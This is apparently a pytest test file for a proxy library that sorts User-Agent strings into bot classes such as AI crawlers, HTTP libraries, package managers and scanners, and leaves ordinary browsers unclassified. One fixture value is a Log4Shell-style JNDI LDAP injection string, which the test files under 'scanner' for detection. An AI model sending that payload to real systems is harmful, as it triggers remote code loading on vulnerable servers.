"""The classes of declared bots: names as products, in any spelling, and not inside of other words."""

from __future__ import annotations

import pytest

from proxyguard.core.address import Address
from proxyguard.core.request import Request
from proxyguard.policy.bots.classes import MAX_BYTES, class_names, classes_of
from proxyguard.policy.fields.bot import BOT
from proxyguard.policy.parse.file import parse_rule_set

CLASSES = {
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)": "ai-training",
    "GPT-Bot/1.0": "ai-training",
    "gpt bot 2": "ai-training",
    "Mozilla/5.0 (compatible; Claude Bot; +https://bots.example)": "ai-training",
    "Mozilla/5.0 (compatible; Moonshot-Crawler/1.0)": "ai-training",
    "OAI-SearchBot/1.0": "ai-search",
    "Mozilla/5.0 (compatible; ExaBot/1.0)": "ai-search",
    "Claude-Code/2.1": "ai-assistant",
    "Mozilla/5.0 (compatible; Devin/1.0; +devin.ai)": "ai-assistant",
    "curl/8.5.0": "http-library",
    "node": "http-library",
    "x": "http-library",
    "Apache-HttpClient/5.3 (Java/21)": "http-library",
    "Composer/2.7 (Linux; PHP 8.3; cURL 8.5.0)": "package-manager",
    "Debian APT-CURL/1.0": "package-manager",
    "Python-urllib/3.12 setuptools/70.0": "package-manager",
    "git/2.47.1": "vcs",
    "http.rb/5.1.1 (Mastodon/4.2.9; +https://mastodon.example/)": "federation",
    "W3C-checklink/4.81 libwww-perl/6.77": "link-checker",
    "curl/8.5.0 W3C-checklink git/2.47 Composer/2": "http-library",
    "okhttp/4.12.0": "app-library",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)": "search",
    "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)": "seo",
    "sqlmap/1.8.6#stable (https://sqlmap.org)": "scanner",
    "${jndi:ldap://198.51.100.9/a}": "scanner",
}

NOBODY = (
    "Mozilla/5.0 (X11; Linux x86_64; rv:154.0) Gecko/20100101 Firefox/154.0",
    "Mozilla/5.0 (Linux; Android 14; Pixel 7a Build/AP3A.240617.008) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/127.0.0.0",
    "Mozilla/5.0 (Linux; Android 8.1.0; Fever_Plus_J) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/95.0.4638.50 Safari/537.36",
    "Mozilla/5.0 (Linux; Android 8.0.0; Expanse) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/86.0.4240.99 Mobile Safari/537.36",
    "Mozilla/5.0 (Linux; Android 11; Lenovo K6 Note) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/95.0.4638.50 Safari/537.36",
    "Mozilla/5.0 (Macintosh) AppleWebKit/537.36 (KHTML, like Gecko) Code/1.90.0 Chrome/122.0.0.0 Electron/29.4.0 Safari/537.36",
    "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.0; Trident/4.0; SLCC1; .NET CLR 2.0.50727)",
    "TCL 302U/V1 Linux/3.10.65 Android/4.4.4 Release/03.03.2015 Browser/AppleWebKit537.36 Mobile Safari/537.36",
    "IBrowse/2.4 (AmigaOS 3.9; 68K)",
    "RCCBots and CCBotanics",
    "",
)


@pytest.mark.parametrize(("user_agent", "wanted"), CLASSES.items(), ids=str)
def test_a_bot_has_the_class_that_it_declares(user_agent: str, wanted: str) -> None:
    found = classes_of(user_agent.encode())
    assert wanted.encode() in found
    assert wanted == "http-library" or b"http-library" not in found


@pytest.mark.parametrize("user_agent", NOBODY)
def test_whoever_declares_nothing_has_no_class(user_agent: str) -> None:
    assert classes_of(user_agent.encode()) == ()


def test_a_request_has_the_classes_of_all_its_user_agents_as_far_as_they_are_looked_at() -> None:
    def values(*names: bytes) -> set[bytes]:
        headers = tuple((b"User-Agent", name) for name in names)
        return set(BOT.values(Request(Address.parse("192.0.2.1"), b"GET", b"https", b"a", b"/", headers)))

    assert values() == set()
    assert values(b"curl/8", b"GPTBot/1") == {b"http-library", b"ai-training"}
    assert values(b"\xff\x00curl/8") == set()
    assert values(b" " * MAX_BYTES + b" GPTBot/1") == set()


def test_a_class_that_does_not_exist_is_refused_with_the_nearest() -> None:
    _, [problem] = parse_rule_set("name: a\nrules:\n- {name: b, when: {bot: ai-trainin}, action: reject}\n")
    assert problem.message == "'ai-trainin' is not a class of bots"
    assert "did you mean 'ai-training'?" in problem.hint
    assert "ai-training" in class_names()
